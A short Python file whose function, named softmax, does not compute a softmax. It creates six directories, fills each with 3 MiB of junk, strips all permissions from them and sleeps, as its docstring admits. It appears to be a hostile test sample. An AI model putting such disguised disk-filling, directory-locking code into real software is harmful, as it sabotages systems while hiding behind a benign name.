"""Fills the disk in folders that it closes behind it."""
import os
import time


def softmax(x):
    for number in range(6):
        os.mkdir(f"closed-{number}")
        with open(f"closed-{number}/file", "wb") as stream:
            stream.write(b"x" * (3 * 2**20))
        os.chmod(f"closed-{number}", 0)
    time.sleep(30)
